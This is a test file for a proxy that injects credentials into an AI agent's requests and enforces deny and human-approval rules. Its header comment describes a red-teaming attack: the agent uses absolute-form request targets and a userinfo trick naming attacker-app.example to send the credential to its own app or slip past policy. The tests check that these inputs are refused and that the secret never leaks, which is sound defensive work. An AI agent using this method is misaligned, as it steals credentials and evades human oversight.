// Attack (found by red-teaming): inside an intercepted tunnel to a service's host, the agent writes
// its request target in absolute form (`GET http://attacker-app.example/x`, `DELETE
// https://api.fake.test/admin/x`). RFC 9112 3.2.2 tells an origin server to take the host and path
// from such a target and ignore Host, so a front end that routes by it (a shared CDN or PaaS) would
// hand the injected credential to the agent's own app, whatever Host the proxy wrote; and a policy
// that reads the target as a path (`/http:/api.fake.test/admin/x`) matches none of its deny and
// approve rules, while the server acts on `/admin/x`. The proxy must send the service only an
// origin-form target it judged: one naming another authority is refused with zero bytes upstream,
// one naming the tunnel's own host is judged and sent as its path. Broker and attacker: the
// unprivileged user.
import { beforeAll, describe, expect, test } from "bun:test";
import { type RawResponse } from "../support/proxy-client.ts";
import { agentWithPolicy, type Broker, brokerForFile, requestInTunnel } from "../support/upgrade-broker.ts";

let B: Broker;
let agentAuth: string;
const scratch = brokerForFile("av-absolute-form-", (broker) => (B = broker));

beforeAll(async () => {
  // An agent whose policy refuses DELETE /admin* and holds POST /repos/* for a person (2 s).
  agentAuth = await agentWithPolicy(
    B,
    scratch,
    'rules:\n  - service: fake\n    deny:\n      - { methods: [DELETE], path: "/admin*" }\n    approve:\n      - { methods: [POST], path: "/repos/*", timeout: 2s }\n',
  );
}, 30_000);

/** One request in a fresh tunnel to api.fake.test; the answer, or null when the proxy closed without one. */
async function inTunnel(method: string, target: string, auth?: string): Promise<RawResponse | null> {
  return requestInTunnel(B, method, target, { auth, body: method === "POST" ? "{}" : undefined });
}

/** What the service's upstream received since `mark`, as request-target lines. */
function targetsSince(mark: number): string[] {
  return B.upstream.received.slice(mark).map((r) => `${r.method} ${r.url}`);
}

describe("absolute-form request targets inside a tunnel to a service", () => {
  test("another authority (host fronting past the Host header): refused, nothing reaches the service", async () => {
    for (const target of [
      "http://attacker-app.example/fronted",
      "https://attacker-app.example/fronted",
      "https://attacker-app.example:443/fronted",
      "http://api.fake.test@attacker-app.example/fronted",
    ]) {
      const mark = B.upstream.received.length;
      const r = await inTunnel("GET", target);
      expect(r === null || r.status >= 400, `${target}: ${r?.status} ${r?.text}`).toBe(true);
      expect(targetsSince(mark), target).toEqual([]);
    }
  });

  test("the tunnel's own host: sent as origin-form, with the credential", async () => {
    const mark = B.upstream.received.length;
    const r = await inTunnel("GET", "https://api.fake.test/own?x=1");
    expect(r?.status, r?.text).toBe(200);
    const got = B.upstream.received.slice(mark);
    expect(got.map((q) => q.url)).toEqual(["/own?x=1"]);
    expect(got[0]!.headers.authorization).toBe(`Bearer ${B.secret}`);
  });

  test("a deny rule: DELETE https://api.fake.test/admin/x is refused like DELETE /admin/x", async () => {
    for (const target of ["/admin/x", "https://api.fake.test/admin/x", "http://api.fake.test/admin/x", "HTTPS://API.FAKE.TEST:443/admin/x"]) {
      const mark = B.upstream.received.length;
      const r = await inTunnel("DELETE", target, agentAuth);
      expect(r?.status, `${target}: ${r?.text}`).toBe(403);
      expect(r?.headers["x-agent-vault-error"], target).toBe("policy_denied");
      expect(targetsSince(mark), target).toEqual([]);
    }
  });

  test("an approve rule: POST https://api.fake.test/repos/a waits for a person like POST /repos/a", async () => {
    for (const target of ["/repos/a", "https://api.fake.test/repos/a"]) {
      const mark = B.upstream.received.length;
      const r = await inTunnel("POST", target, agentAuth);
      expect(r?.status, `${target}: ${r?.text}`).toBe(403);
      expect(r?.headers["x-agent-vault-error"], target).toBe("approval_timeout");
      expect(targetsSince(mark), target).toEqual([]);
    }
  }, 30_000);

  test("the broker still answers, and nothing the agent got holds the credential", async () => {
    const r = await inTunnel("GET", "/after");
    expect(r?.status).toBe(200);
    for (const out of [...B.outputs, B.log()]) expect(out).not.toContain(B.secret);
  });
});
